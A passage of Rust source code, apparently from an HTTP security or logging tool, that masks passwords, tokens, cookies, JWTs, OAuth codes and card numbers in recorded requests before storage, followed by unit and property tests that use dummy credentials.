        // Masks are ASCII and the rest is copied whole: still UTF-8.
        let Ok(text) = String::from_utf8(masked) else {
            return false;
        };
        let Ok(escaped) = serde_json::to_string(&text) else {
            return false;
        };
        out.extend_from_slice(escaped.as_bytes());
        true
    }

    /// Whether the JSON object opening at `open` has a `"name"`, `"key"`,
    /// `"type"` or `"field"` member (any case) whose string value is a
    /// masked parameter name
    /// (`{"name":"DB_PASSWORD","value":"…"}`), looked for in its first
    /// [`PAIR_LOOKAHEAD`] bytes, at its own level only.
    fn pair_names_secret(&self, body: &[u8], open: usize) -> bool {
        let end = open.saturating_add(PAIR_LOOKAHEAD).min(body.len());
        let mut depth = 0usize;
        let mut want_key = false;
        let mut key: Option<&[u8]> = None;
        let mut i = open;
        while i < end {
            let Some(&b) = body.get(i) else { break };
            match b {
                b'{' | b'[' => {
                    depth += 1;
                    want_key = depth == 1;
                    i += 1;
                }
                b'}' | b']' => {
                    depth = depth.saturating_sub(1);
                    if depth == 0 {
                        return false;
                    }
                    i += 1;
                }
                b',' => {
                    if depth == 1 {
                        want_key = true;
                        key = None;
                    }
                    i += 1;
                }
                b'"' => {
                    let e = json_string_end(body, i + 1);
                    let content = body.get(i + 1..e).unwrap_or_default();
                    if depth == 1 {
                        if want_key {
                            key = Some(content);
                            want_key = false;
                        } else if let Some(k) = key.take() {
                            if PAIR_NAME_KEYS.iter().any(|n| k.eq_ignore_ascii_case(n))
                                && self.param_masked(content)
                            {
                                return true;
                            }
                        }
                    }
                    i = e + 1;
                }
                _ => i += 1,
            }
        }
        false
    }

    /// `text` with every remembered clear secret replaced by its mask
    /// (never inside an existing mask).
    fn sweep(&self, text: &[u8], secrets: &Secrets) -> Vec<u8> {
        let mut cur = text.to_vec();
        for (clear, token) in &secrets.items {
            if memmem::find(&cur, clear).is_none() {
                continue;
            }
            let mut next = Vec::with_capacity(cur.len());
            let mut rest: &[u8] = &cur;
            // Split at existing masks so none is rewritten.
            while !rest.is_empty() {
                let (plain, masked, after) = match memmem::find(rest, TOKEN_PREFIX) {
                    Some(p) => {
                        let end = (p + TOKEN_LEN).min(rest.len());
                        (
                            rest.get(..p).unwrap_or_default(),
                            rest.get(p..end).unwrap_or_default(),
                            rest.get(end..).unwrap_or_default(),
                        )
                    }
                    None => (rest, &b""[..], &b""[..]),
                };
                replace_all(plain, clear, token, &mut next);
                next.extend_from_slice(masked);
                rest = after;
            }
            cur = next;
        }
        cur
    }

    /// `text` with what is a secret by its shape, whatever its name,
    /// masked: JSON Web Tokens, and card-like numbers (when enabled).
    fn shapes(&self, text: Vec<u8>) -> Vec<u8> {
        self.cards(self.provider_tokens(self.jwts(text)))
    }

    /// `text` with every token of a provider that gives its tokens a fixed
    /// prefix ([`PROVIDER_TOKEN_PREFIXES`]: GitHub, Slack, Stripe, GitLab,
    /// ...) masked wherever it is: a JSON-RPC `params` array, a message
    /// field, a webhook path (review round 21). The prefix must start a
    /// word and be followed by at least [`PROVIDER_TOKEN_MIN_BODY`] token
    /// characters, so the bare words are kept.
    fn provider_tokens(&self, text: Vec<u8>) -> Vec<u8> {
        let token_byte = |b: &u8| b.is_ascii_alphanumeric() || matches!(b, b'-' | b'_');
        // One pass over the text for all prefixes. Every prefix byte is a
        // token byte, so a prefix overlapping a rejected one cannot start a
        // word either: non-overlapping matches lose nothing.
        if provider_prefix_starts(&text).next().is_none() {
            return text;
        }
        let mut out = Vec::with_capacity(text.len());
        let mut last = 0usize;
        for (p, prefix_len) in provider_prefix_starts(&text) {
            if p < last
                || p.checked_sub(1)
                    .and_then(|k| text.get(k))
                    .is_some_and(token_byte)
            {
                continue;
            }
            let rest = text.get(p..).unwrap_or_default();
            let len = rest.iter().take_while(|b| token_byte(b)).count();
            if len < prefix_len + PROVIDER_TOKEN_MIN_BODY {
                continue;
            }
            out.extend_from_slice(text.get(last..p).unwrap_or_default());
            self.push_token(rest.get(..len).unwrap_or_default(), &mut out);
            last = p + len;
        }
        out.extend_from_slice(text.get(last..).unwrap_or_default());
        out
    }

    /// `text` with every JSON Web Token (`eyJ…` `.` `…` `.` signature, in a
    /// path, an unnamed header, a link in a body) masked: a bearer
    /// credential whatever it is called (review round 17). Same mask as the
    /// token masked under a name, so the two correlate.
    fn jwts(&self, text: Vec<u8>) -> Vec<u8> {
        let b64url = |b: &u8| b.is_ascii_alphanumeric() || matches!(b, b'-' | b'_');
        if memmem::find(&text, b"eyJ").is_none() {
            return text;
        }
        let mut out = Vec::with_capacity(text.len());
        let mut last = 0usize;
        for p in memmem::find_iter(&text, b"eyJ") {
            if p < last
                || p.checked_sub(1)
                    .and_then(|k| text.get(k))
                    .is_some_and(b64url)
            {
                continue;
            }
            let rest = text.get(p..).unwrap_or_default();
            let run = |from: usize| {
                rest.get(from..)
                    .map_or(0, |r| r.iter().take_while(|b| b64url(b)).count())
            };
            let header = run(0);
            if header < JWT_MIN_HEADER || rest.get(header) != Some(&b'.') {
                continue;
            }
            let payload = run(header + 1);
            let sig_at = header + 1 + payload;
            if payload == 0 || rest.get(sig_at) != Some(&b'.') {
                continue;
            }
            let end = sig_at + 1 + run(sig_at + 1);
            out.extend_from_slice(text.get(last..p).unwrap_or_default());
            self.push_token(rest.get(..end).unwrap_or_default(), &mut out);
            last = p + end;
        }
        out.extend_from_slice(text.get(last..).unwrap_or_default());
        out
    }

    /// `text` with card-like numbers masked (when enabled).
    fn cards(&self, text: Vec<u8>) -> Vec<u8> {
        if !self.mask_cards || text.iter().filter(|b| b.is_ascii_digit()).count() < 13 {
            return text;
        }
        let mut out = Vec::with_capacity(text.len());
        let mut i = 0usize;
        while let Some(&b) = text.get(i) {
            // An encoded space or dash (`%20`, `%2D`) ends in a letter or digit.
            let boundary_before = i == 0
                || !text.get(i - 1).is_some_and(u8::is_ascii_alphanumeric)
                || text.get(..i).is_some_and(|t| {
                    t.ends_with(b"%20") || t.ends_with(b"%2D") || t.ends_with(b"%2d")
                });
            if !(b.is_ascii_digit() && boundary_before) {
                out.push(b);
                i += 1;
                continue;
            }
            // A run of digits with single separators between them, and
            // where each group of digits starts and ends in `text`.
            let mut digits = Vec::with_capacity(19);
            let mut groups: Vec<(usize, usize)> = Vec::new();
            let mut j = i;
            let mut end = i;
            while let Some(&c) = text.get(j) {
                if c.is_ascii_digit() {
                    if end != j || groups.is_empty() {
                        groups.push((j, j));
                    }
                    digits.push(c);
                    j += 1;
                    end = j;
                    if let Some(g) = groups.last_mut() {
                        g.1 = j;
                    }
                } else if let Some(n) = card_separator(text.get(j..).unwrap_or_default())
                    .filter(|&n| text.get(j + n).is_some_and(u8::is_ascii_digit))
                {
                    j += n;
                } else {
                    break;
                }
            }
            let boundary_after = !text.get(end).is_some_and(u8::is_ascii_alphanumeric);
            let run = text.get(i..end).unwrap_or_default();
            if boundary_after && card_brand_length(&digits) && luhn(&digits) {
                self.push_token(&digits, &mut out);
            } else if let Some((from, to, card)) = card_in_groups(&text, &groups) {
                // A card beside another number (`qty 2 4111 1111 1111
                // 1111`, `… 1111 123` with its CVV: review 33c); what
                // follows it is read again as a run of its own.
                out.extend_from_slice(text.get(i..from).unwrap_or_default());
                self.push_token(&card, &mut out);
                i = to;
                continue;
            } else {
                out.extend_from_slice(run);
            }
            i = end.max(i + 1);
        }
        out
    }
}

/// Whether `mime` ends with `suffix`, ASCII case-insensitively.
/// Whether the query or form `data` is an OAuth 2.0 authorization response
/// (`?code=…&state=…`, RFC 6749 §4.1.2) or an authorization-code token
/// request (`grant_type=authorization_code&code=…&redirect_uri=…`, §4.1.3):
/// its `code` is then a credential (redeemable once, by whoever holds it
/// first), while elsewhere `code` is too common a name (a country, a coupon,
/// a snippet) to mask. The names that say so are the protocol's own.
fn oauth_code_context(data: &[u8]) -> bool {
    let (mut code, mut oauth) = (false, false);
    for pair in data.split(|&b| b == b'&' || b == b';') {
        let name = pair.split(|&b| b == b'=').next().unwrap_or_default();
        // The names looked for are short, even percent-encoded.
        if name.len() > 48 {
            continue;
        }
        let name = decode_name(name);
        code |= name.eq_ignore_ascii_case(b"code");
        oauth |= [
            &b"state"[..],
            b"session_state",
            b"grant_type",
            b"redirect_uri",
        ]
        .iter()
        .any(|n| name.eq_ignore_ascii_case(n));
    }
    code && oauth
}

fn media_type_ends_with(mime: &[u8], suffix: &[u8]) -> bool {
    mime.len()
        .checked_sub(suffix.len())
        .and_then(|k| mime.get(k..))
        .is_some_and(|s| s.eq_ignore_ascii_case(suffix))
}

/// A JSON media type: `application/json` or any `+json`.
fn json_media_type(mime: &[u8]) -> bool {
    mime.eq_ignore_ascii_case(b"application/json") || media_type_ends_with(mime, b"+json")
}

/// An XML media type for masking: any type ending in `xml` (`text/xml`,
/// `+xml`, `application/xop+xml`), broader than detection's on purpose.
fn xml_media_type(mime: &[u8]) -> bool {
    media_type_ends_with(mime, b"xml")
}

/// `text` without its last word (and, when that is digits, the
/// space-separated digit groups before it: `4111 1111 1111 11`): what a
/// cut at its end may have broken out of a secret's shape.
fn without_cut_word(text: &[u8]) -> &[u8] {
    let word = |b: &u8| b.is_ascii_alphanumeric() || b"-_.+/=%".contains(b);
    let word_start = |end: usize| {
        text.get(..end)
            .and_then(|t| t.iter().rposition(|b| !word(b)))
            .map_or(0, |i| i + 1)
    };
    let mut start = word_start(text.len());
    while start >= 2
        && text.get(start).is_some_and(u8::is_ascii_digit)
        && text.get(start - 1) == Some(&b' ')
        && text.get(start - 2).is_some_and(u8::is_ascii_digit)
    {
        start = word_start(start - 1);
    }
    text.get(..start).unwrap_or_default()
}

/// The first card number made of whole consecutive groups of a digit run
/// that is not one as a whole (`groups`: where each group of digits is in
/// `text`), longest first from each group: its start and end in `text` and
/// its digits. Groups but the last have at least 4 digits, as cards are
/// written (4-4-4-4, 4-6-5), so a list of small numbers is not read as one.
fn card_in_groups(text: &[u8], groups: &[(usize, usize)]) -> Option<(usize, usize, Vec<u8>)> {
    for (a, &(from, _)) in groups.iter().enumerate() {
        let mut best = None;
        let mut digits = Vec::with_capacity(19);
        for &(start, end) in groups.get(a..).unwrap_or_default() {
            digits.extend(text.get(start..end).unwrap_or_default());
            if digits.len() > 19 {
                break;
            }
            if card_brand_length(&digits) && luhn(&digits) {
                best = Some((from, end, digits.clone()));
            }
            if end - start < 4 {
                // Only a last group may be shorter.
                break;
            }
        }
        if best.is_some() {
            return best;
        }
    }
    None
}

/// Length of a separator between card digit groups at the start of `s`: a
/// space or dash, or how form and URL encodings write them (`+`, `%20`,
/// `%2D`), since `cards` runs on text still encoded.
fn card_separator(s: &[u8]) -> Option<usize> {
    match s {
        [b' ' | b'-' | b'+', ..] => Some(1),
        [b'%', b'2', b'0' | b'D' | b'd', ..] => Some(3),
        _ => None,
    }
}

/// The body to mask: as sent, or inflated (at most `max` bytes) when it
/// has a `Content-Encoding` of gzip or deflate (the same bounded inflater
/// detection uses). `Err` with the placeholder to store instead,
/// `[body: <codings>, <N> bytes]` (`body_len` is N), when it has another
/// coding or does not inflate: its bytes must then not be stored.
fn decoded_body<'b>(
    encodings: &[&[u8]],
    body: &'b [u8],
    body_len: u64,
    max: usize,
) -> Result<Cow<'b, [u8]>, Vec<u8>> {
    let placeholder =
        |names: &[&[u8]]| format!("[body: {}, {body_len} bytes]", coding_label(names)).into_bytes();
    // The names a placeholder shows: every coding but `identity`.
    let names: Vec<&[u8]> = encodings
        .iter()
        .flat_map(|v| v.split(|&b| b == b','))
        .filter(|n| !matches!(Coding::parse(n), Ok(None)))
        .map(|n| n.trim_ascii())
        .collect();
    if names.is_empty() || body.is_empty() {
        return Ok(Cow::Borrowed(body));
    }
    let Ok(codings) = inflate::codings(encodings.iter().copied()) else {
        return Err(placeholder(&names));
    };
    // Listed in the order applied (RFC 9110 §8.4), so undone from the last.
    let mut cur = Cow::Borrowed(body);
    for c in codings.into_iter().rev() {
        let mut out = Vec::new();
        if inflate::inflate(c, &cur, max, INFLATE_MAX_RATIO, &mut out) == Inflated::Invalid {
            return Err(placeholder(&names));
        }
        // Complete, truncated or capped: what inflated is the text.
        cur = Cow::Owned(out);
    }
    Ok(cur)
}

/// The codings named in a placeholder: only token characters (RFC 9110
/// §5.6.2) and short names are copied (the header is the sender's text),
/// others shown as `?`.
fn coding_label(names: &[&[u8]]) -> String {
    let mut label = String::new();
    for (k, n) in names.iter().enumerate() {
        if k > 0 {
            label.push_str(", ");
        }
        if k >= PLACEHOLDER_MAX_CODINGS {
            label.push_str("...");
            break;
        }
        let token = !n.is_empty()
            && n.len() <= PLACEHOLDER_MAX_NAME
            && n.iter()
                .all(|&b| b.is_ascii_alphanumeric() || b"!#$%&'*+-.^_`|~".contains(&b));
        match std::str::from_utf8(n) {
            Ok(s) if token => label.push_str(s),
            _ => label.push('?'),
        }
    }
    label
}

/// Where the GraphQL string whose content starts at `from` closes: the
/// next `close` (`"`, `"""`, or those escaped by JSON when `in_json`) not
/// escaped by a GraphQL backslash (written `\\` in JSON), or the end.
fn graphql_string_end(text: &[u8], from: usize, close: &[u8], in_json: bool) -> usize {
    // A GraphQL backslash as it appears in the text.
    let backslash: &[u8] = if in_json { b"\\\\" } else { b"\\" };
    let mut j = from;
    while j < text.len() {
        let rest = text.get(j..).unwrap_or_default();
        if rest.starts_with(close) {
            return j;
        }
        if rest.starts_with(backslash) {
            // The escaped character follows: skip it as written (one JSON
            // escape, `\"`, or one byte).
            j += backslash.len();
            let next = text.get(j..).unwrap_or_default();
            j += if in_json && next.first() == Some(&b'\\') {
                2
            } else {
                1
            };
        } else if in_json && rest.first() == Some(&b'\\') {
            // Another JSON escape (`\n`, `\u0041`): not a quote.
            j += 2;
        } else {
            j += 1;
        }
    }
    text.len()
}

/// The names a multipart part's `Content-Disposition` value may give it,
/// as servers parse its parameters: quoted strings may hold `;` and `=`
/// (`filename="a; name=b"; name="password"`, RFC 7578 §4.2 with RFC 2183),
/// and Go's `mime.ParseMediaType` and busboy decode the RFC 2231 forms
/// `name*=UTF-8''password` and `name*0=pass; name*1=word` (review 30b).
/// Every reading is returned; a part is masked when any is a masked name.
fn disposition_names(value: &[u8]) -> Vec<Vec<u8>> {
    let mut names = Vec::new();
    // RFC 2231 continuations (`name*0`, `name*1*`), by section number.
    let mut sections: Vec<(usize, Vec<u8>)> = Vec::new();
    let mut i = 0;
    while i < value.len() {
        // One `key=value` parameter up to an unquoted `;`.
        let start = i;
        let mut quoted = false;
        let mut escaped = false;
        while let Some(&b) = value.get(i) {
            if escaped {
                escaped = false;
            } else if quoted && b == b'\\' {
                escaped = true;
            } else if b == b'"' {
                quoted = !quoted;
            } else if b == b';' && !quoted {
                break;
            }
            i += 1;
        }
        let piece = value.get(start..i).unwrap_or_default().trim_ascii();
        i += 1;
        let Some(eq) = memchr::memchr(b'=', piece) else {
            continue;
        };
        let key = piece.get(..eq).unwrap_or_default().trim_ascii();
        let raw = piece.get(eq + 1..).unwrap_or_default().trim_ascii();
        let Some(after) = key
            .get(..4)
            .filter(|k| k.eq_ignore_ascii_case(b"name"))
            .and_then(|_| key.get(4..))
        else {
            continue;
        };
        let unquoted = match raw.strip_prefix(b"\"") {
            Some(r) => {
                let r = r.strip_suffix(b"\"").unwrap_or(r);
                let mut v = Vec::with_capacity(r.len());
                let mut esc = false;
                for &b in r {
                    if b == b'\\' && !esc {
                        esc = true;
                        continue;
                    }
                    esc = false;
                    v.push(b);
                }
                v
            }
            None => raw.to_vec(),
        };
        // `name`, `name*` (extended), `name*N` or `name*N*` (sections).
        let Some(section) = (match after {
            b"" => Some(None),
            _ => after.strip_prefix(b"*").map(Some),
        }) else {
            continue;
        };
        let extended = after.ends_with(b"*");
        let section = section.map(|n| n.strip_suffix(b"*").unwrap_or(n));
        let number = section.filter(|n| !n.is_empty()).map(|n| {
            std::str::from_utf8(n)
                .ok()
                .and_then(|n| n.parse::<usize>().ok())
        });
        // An extended value is percent-encoded, the first one after
        // `charset'language'`.
        let decoded = if extended {
            let first = matches!(number, None | Some(Some(0)));
            let mut quotes = memchr::memchr_iter(b'\'', &unquoted);
            let text = match (first, quotes.next(), quotes.next()) {
                (true, Some(_), Some(q)) => unquoted.get(q + 1..).unwrap_or_default(),
                _ => unquoted.as_slice(),
            };
            let mut v = Vec::with_capacity(text.len());
            percent_decode(text, false, &mut v);
            v
        } else {
            unquoted.clone()
        };
        match number {
            None => names.push(decoded),
            Some(Some(k)) if sections.len() < 64 => sections.push((k, decoded)),
            Some(_) => {}
        }
        // Both readings of an extended value: decoded, and as sent.
        if extended {
            names.push(unquoted);
        }
    }
    if !sections.is_empty() {
        sections.sort_by_key(|(k, _)| *k);
        names.push(sections.into_iter().flat_map(|(_, v)| v).collect());
    }
    names
}

/// Length of the tag that `tail` starts with, to its `>` (or all of
/// `tail`). In a start tag a quoted attribute value may hold `>` and `/>`
/// (XML 1.0 §3.1 AttValue excludes only `<` and `&`), so quotes are skipped
/// there; an unclosed quote falls back to the first `>`. Other markup
/// (`</…>`, `<!…>`, `<?…>`) ends at its first `>`.
fn xml_tag_len(tail: &[u8]) -> usize {
    let plain = memchr::memchr(b'>', tail).map_or(tail.len(), |o| o + 1);
    if matches!(tail.get(1), Some(b'/' | b'!' | b'?')) {
        return plain;
    }
    let mut i = 1;
    while let Some(&b) = tail.get(i) {
        match b {
            b'>' => return i + 1,
            b'"' | b'\'' => match tail.get(i + 1..).and_then(|r| memchr::memchr(b, r)) {
                Some(o) => i += o + 2,
                None => return plain,
            },
            // A new tag before this one closed: not a tag after all.
            b'<' => return plain,
            _ => i += 1,
        }
    }
    plain
}

/// An XML element or attribute name without its namespace prefix
/// (`soap:password` → `password`).
fn xml_local_name(name: &[u8]) -> &[u8] {
    memchr::memrchr(b':', name).map_or(name, |p| name.get(p + 1..).unwrap_or_default())
}

/// Whether a byte ends the authority of a URL found in text (RFC 3986
/// §3.2: `/`, `?`, `#`, and what cannot be in a URL unencoded).
fn authority_end(b: u8) -> bool {
    matches!(
        b,
        b'/' | b'?' | b'#' | b'\\' | b'"' | b'<' | b'>' | b'`' | b'{' | b'}' | b'|' | b'^'
    ) || b.is_ascii_whitespace()
        || b.is_ascii_control()
}

fn replace_all(hay: &[u8], needle: &[u8], with: &[u8], out: &mut Vec<u8>) {
    let mut last = 0usize;
    for p in memmem::find_iter(hay, needle) {
        if p < last {
            continue;
        }
        out.extend_from_slice(hay.get(last..p).unwrap_or_default());
        out.extend_from_slice(with);
        last = p + needle.len();
    }
    out.extend_from_slice(hay.get(last..).unwrap_or_default());
}

/// Index of the closing quote of a JSON string whose content starts at
/// `from` (or the end of the input).
fn json_string_end(body: &[u8], from: usize) -> usize {
    let mut j = from;
    while let Some(&c) = body.get(j) {
        match c {
            b'\\' => j += 2,
            b'"' => return j,
            _ => j += 1,
        }
    }
    body.len()
}

/// Whether the digits have the issuer prefix and length of a payment card
/// network (Visa, Mastercard, Amex, Discover, JCB, Diners, UnionPay,
/// Maestro). Luhn alone passes one random number in ten, and 13-digit
/// millisecond timestamps (cache busters, `?ver=1316355691345`) are
/// everywhere in URLs; none of them starts like a card.
fn card_brand_length(d: &[u8]) -> bool {
    let n = d.len();
    let prefix = |k: usize| -> u32 {
        d.iter()
            .take(k)
            .fold(0u32, |acc, c| acc * 10 + u32::from(c.wrapping_sub(b'0')))
    };
    let (p1, p2, p3, p4) = (prefix(1), prefix(2), prefix(3), prefix(4));
    match p1 {
        // Visa
        4 => matches!(n, 13 | 16 | 19),
        // Mastercard (51–55, 2221–2720)
        5 if (51..=55).contains(&p2) => n == 16,
        2 if (2221..=2720).contains(&p4) => n == 16,
        // Amex, Diners, JCB
        3 if p2 == 34 || p2 == 37 => n == 15,
        3 if p2 == 36 || p2 == 38 || (300..=305).contains(&p3) => (14..=19).contains(&n),
        3 if (3528..=3589).contains(&p4) => (16..=19).contains(&n),
        // Discover, UnionPay, Maestro
        6 if p4 == 6011 || p2 == 65 || (644..=649).contains(&p3) => (16..=19).contains(&n),
        6 if p2 == 62 => (16..=19).contains(&n),
        5 | 6 if matches!(p2, 50 | 56..=59 | 63 | 67) => (12..=19).contains(&n) && n >= 13,
        _ => false,
    }
}

/// Luhn check of ASCII digits (ISO/IEC 7812-1).
fn luhn(digits: &[u8]) -> bool {
    let mut sum = 0u32;
    for (k, d) in digits.iter().rev().enumerate() {
        let mut v = u32::from(d.wrapping_sub(b'0'));
        if k % 2 == 1 {
            v *= 2;
            if v > 9 {
                v -= 9;
            }
        }
        sum += v;
    }
    sum % 10 == 0
}

fn decode_name(name: &[u8]) -> Vec<u8> {
    let mut out = Vec::with_capacity(name.len());
    percent_decode(name, true, &mut out);
    out
}

/// Where to cut `text` to keep at most `max` bytes: never inside a mask,
/// never inside a UTF-8 character.
pub fn cut_excerpt(text: &[u8], max: usize) -> usize {
    if text.len() <= max {
        return text.len();
    }
    let mut cut = max;
    // Inside a mask that starts before the cut and ends after it?
    let from = cut.saturating_sub(TOKEN_LEN - 1);
    if let Some(p) = text
        .get(from..cut)
        .and_then(|w| memmem::rfind(w, TOKEN_PREFIX))
    {
        if from + p + TOKEN_LEN > cut {
            cut = from + p;
        }
    }
    // A partial prefix of "[masked:" at the very end is not a mask yet, but
    // its bytes are copied only if the full mask does not follow.
    for k in 1..TOKEN_PREFIX.len() {
        if k > cut {
            break;
        }
        let tail = text.get(cut - k..cut).unwrap_or_default();
        if TOKEN_PREFIX.starts_with(tail)
            && text
                .get(cut - k..)
                .is_some_and(|t| t.starts_with(TOKEN_PREFIX))
        {
            cut -= k;
            break;
        }
    }
    // Back off to a character boundary.
    let mut back = 0;
    while back < 3 && cut > 0 && text.get(cut).is_some_and(|b| b & 0xC0 == 0x80) {
        cut -= 1;
        back += 1;
    }
    cut
}

#[cfg(test)]
mod tests {
    use super::*;

    fn masker_with(f: impl FnOnce(&mut MaskingSection)) -> Masker {
        let mut cfg = MaskingSection::default();
        f(&mut cfg);
        Masker::with_key(&cfg, [7u8; 32], KeySource::Random)
    }

    fn masker() -> Masker {
        masker_with(|_| {})
    }

    fn req(uri: &str, headers: &[(&str, &str)], body: &[u8]) -> Request {
        crate::detect::tests::req("POST", uri, headers, body)
    }

    fn t(m: &Masker, clear: &str) -> String {
        String::from_utf8(m.token(clear.as_bytes())).unwrap()
    }

    fn s(b: &[u8]) -> String {
        String::from_utf8_lossy(b).into_owned()
    }

    fn header(mr: &MaskedRequest, name: &str) -> String {
        s(&mr
            .headers
            .iter()
            .find(|(n, _)| n.eq_ignore_ascii_case(name.as_bytes()))
            .unwrap()
            .1)
    }

    #[test]
    fn token_is_keyed_stable_and_short() {
        let m = masker();
        let a = t(&m, "hunter2");
        assert_eq!(a.len(), TOKEN_LEN);
        assert!(a.starts_with("[masked:") && a.ends_with(']'));
        assert!(a[8..20].bytes().all(|b| b.is_ascii_hexdigit()));
        assert_eq!(a, t(&m, "hunter2"));
        assert_ne!(a, t(&m, "hunter3"));
        let other = Masker::with_key(&MaskingSection::default(), [8u8; 32], KeySource::Random);
        assert_ne!(a, t(&other, "hunter2"), "another key, another mask");
    }

    /// A masked request printed with `{:?}` (a log line, a panic message)
    /// shows no secret: it keeps the clear values it met, to find them again
    /// in `matched`, and printed them before.
    #[test]
    fn debug_of_a_masked_request_shows_no_secret() {
        let m = masker();
        let r = req(
            "/login?password=hu5ter2secret9",
            &[("Authorization", "Bearer tok3nvalue77")],
            b"",
        );
        let mr = m.mask_request(&r);
        assert_eq!(mr.secrets.items.len(), 2, "both secrets were kept");
        let shown = format!("{mr:?}");
        for clear in ["hu5ter2secret9", "tok3nvalue77"] {
            assert!(!shown.contains(clear), "{clear} in {shown}");
        }
        assert!(shown.contains("count: 2"), "{shown}");
    }

    /// Names of one-time codes and service API keys that were known limits.
    #[test]
    fn otp_codes_service_keys_and_cas_tickets_are_masked() {
        let m = masker();
        for n in [
            "otp_code",
            "otpCode",
            "totp",
            "mfa_token",
            "two_factor_code",
            "verification_code",
            "subscription-key",
            "Ocp-Apim-Subscription-Key",
            "application_key",
            "appKey",
            "client_key",
            "license_key",
            "ticket",
        ] {
            assert!(m.param_masked(n.as_bytes()), "{n}");
        }
        for n in [
            "footprint",
            "sortkey",
            "primary_key",
            "monkey",
            "tickets",
            "mfg",
        ] {
            assert!(!m.param_masked(n.as_bytes()), "{n}");
        }
        let uri = s(&m.mask_uri(b"/cas/validate?service=https%3A%2F%2Fa&ticket=ST-1-abcDEF123"));
        assert!(!uri.contains("abcDEF123"), "{uri}");
    }

    #[test]
    fn glob_and_names() {
        assert!(glob(b"*passw*", b"userpassword"));
        assert!(glob(b"pass", b"pass"));
        assert!(!glob(b"pass", b"passage"));
        assert!(glob(b"*token", b"xcsrftoken"));
        assert!(!glob(b"*token", b"tokens1"));
        assert!(glob(b"a*b*c", b"axxbyyc"));
        assert!(!glob(b"a*b*c", b"axxbyy"));
        let m = masker();
        for n in [
            "password",
            "Pass%77ord",
            "user[password]",
            "user.pass",
            "API_KEY",
            "apiKey",
            "x-api-key",
            "PHPSESSID",
            "jsessionid",
            "card_number",
            "cvv2",
            "pin",
            "sid",
            "access_token",
            "client_secret",
        ] {
            assert!(m.param_masked(n.as_bytes()), "{n}");
        }
        for n in [
            "q", "id", "search", "passage", "author", "pinned", "user", "", "%",
        ] {
            assert!(!m.param_masked(n.as_bytes()), "{n}");
        }
    }

    #[test]
    fn authorization_keeps_its_scheme() {
        let m = masker();
        let r = req(
            "/",
            &[
                ("Authorization", "Bearer eyJhbGciOi.secret.sig"),
                ("Proxy-Authorization", "Basic dXNlcjpwYXNzd29yZA=="),
                ("Host", "example.test"),
            ],
            b"",
        );
        let mr = m.mask_request(&r);
        assert_eq!(
            header(&mr, "authorization"),
            format!("Bearer {}", t(&m, "eyJhbGciOi.secret.sig"))
        );
        assert_eq!(
            header(&mr, "proxy-authorization"),
            format!("Basic {}", t(&m, "dXNlcjpwYXNzd29yZA=="))
        );
        assert_eq!(header(&mr, "host"), "example.test");
        // No scheme: all of it.
        let mr = m.mask_request(&req("/", &[("Authorization", "opaque")], b""));
        assert_eq!(header(&mr, "authorization"), t(&m, "opaque"));
    }

    #[test]
    fn cookies_keep_names_and_mask_each_value() {
        let m = masker_with(|c| c.keep = vec!["theme".into()]);
        let r = req(
            "/",
            &[("Cookie", "sid=abc123; theme=dark;  lang=; =x; bare")],
            b"",
        );
        let mr = m.mask_request(&r);
        assert_eq!(
            header(&mr, "cookie"),
            format!(
                "sid={}; theme=dark;  lang=; ={}; {}",
                t(&m, "abc123"),
                t(&m, "x"),
                t(&m, "bare")
            )
        );
    }

    #[test]
    fn credential_like_headers_are_masked() {
        let m = masker_with(|c| c.extra_headers = vec!["X-Tenant".into()]);
        let r = req(
            "/",
            &[
                ("X-Api-Key", "k1"),
                ("X-Auth-Token", "k2"),
                ("X-CSRF-Token", "k3"),
                ("X-Client-Secret", "k4"),
                ("X-Tenant", "acme"),
                ("X-Auth", "k5"),
                ("X-Sentry-Auth", "Sentry sentry_key=k6, sentry_secret=k7"),
                ("Authentication", "Token k8"),
                ("X-Authentication", "k9"),
                ("User-Agent", "curl/8"),
                ("Accept", "*/*"),
            ],
            b"",
        );
        let mr = m.mask_request(&r);
        for (n, v) in [
            ("x-api-key", "k1"),
            ("x-auth-token", "k2"),
            ("x-csrf-token", "k3"),
            ("x-client-secret", "k4"),
            ("x-tenant", "acme"),
            ("x-auth", "k5"),
            ("x-sentry-auth", "Sentry sentry_key=k6, sentry_secret=k7"),
            ("authentication", "Token k8"),
            ("x-authentication", "k9"),
        ] {
            assert_eq!(header(&mr, n), t(&m, v), "{n}");
        }
        assert_eq!(header(&mr, "user-agent"), "curl/8");
        assert_eq!(header(&mr, "accept"), "*/*");
    }

    #[test]
    fn query_and_path_parameters() {
        let m = masker();
        let u = m.mask_uri(
            b"/login;jsessionid=S1/x?user=bob&password=p%40ss&token=a=b=c&pass%77ord=zz&q=&x#frag",
        );
        assert_eq!(
            s(&u),
            format!(
                "/login;jsessionid={}/x?user=bob&password={}&token={}&pass%77ord={}&q=&x#frag",
                t(&m, "S1"),
                t(&m, "p@ss"),
                t(&m, "a=b=c"),
                t(&m, "zz")
            )
        );
        assert_eq!(m.mask_uri(b"/plain?q=1"), b"/plain?q=1");
        assert_eq!(m.mask_uri(b""), b"");
        assert_eq!(m.mask_uri(b"?"), b"?");
    }

    #[test]
    fn referer_query_is_masked() {
        let m = masker();
        let mr = m.mask_request(&req(
            "/",
            &[("Referer", "https://a.test/cb?code=1&access_token=AT99")],
            b"",
        ));
        assert_eq!(
            header(&mr, "referer"),
            format!("https://a.test/cb?code=1&access_token={}", t(&m, "AT99"))
        );
    }

    #[test]
    fn form_body() {
        let m = masker();
        let mr = m.mask_request(&req(
            "/",
            &[("Content-Type", "application/x-www-form-urlencoded")],
            b"user=bob&password=hunter2%21&remember=1",
        ));
        assert_eq!(
            s(&mr.body_excerpt),
            format!("user=bob&password={}&remember=1", t(&m, "hunter2!"))
        );
    }

    proptest::proptest! {
        /// Any body under any of the body kinds masks without a panic and
        /// within the excerpt bound (masks may end past it, by one token).
        #[test]
        fn arbitrary_bodies_mask_without_panic(
            body in proptest::collection::vec(proptest::prop_oneof![
                proptest::strategy::Just(b'<'), proptest::strategy::Just(b'>'),
                proptest::strategy::Just(b'/'), proptest::strategy::Just(b'='),
                proptest::strategy::Just(b'"'), proptest::strategy::Just(b'['),
                proptest::strategy::Just(b']'), proptest::strategy::Just(b'!'),
                proptest::strategy::Just(b':'), proptest::strategy::Just(b'&'),
                proptest::strategy::Just(b'p'), proptest::num::u8::ANY,
            ], 0..600),
            kind in 0usize..4,
        ) {
            let m = masker();
            let ct = ["text/xml", "application/json", "application/x-www-form-urlencoded", ""][kind];
            let mut full = b"<password>".to_vec();
            full.extend_from_slice(&body);
            let mr = m.mask_request(&req("/", &[("Content-Type", ct)], &full));
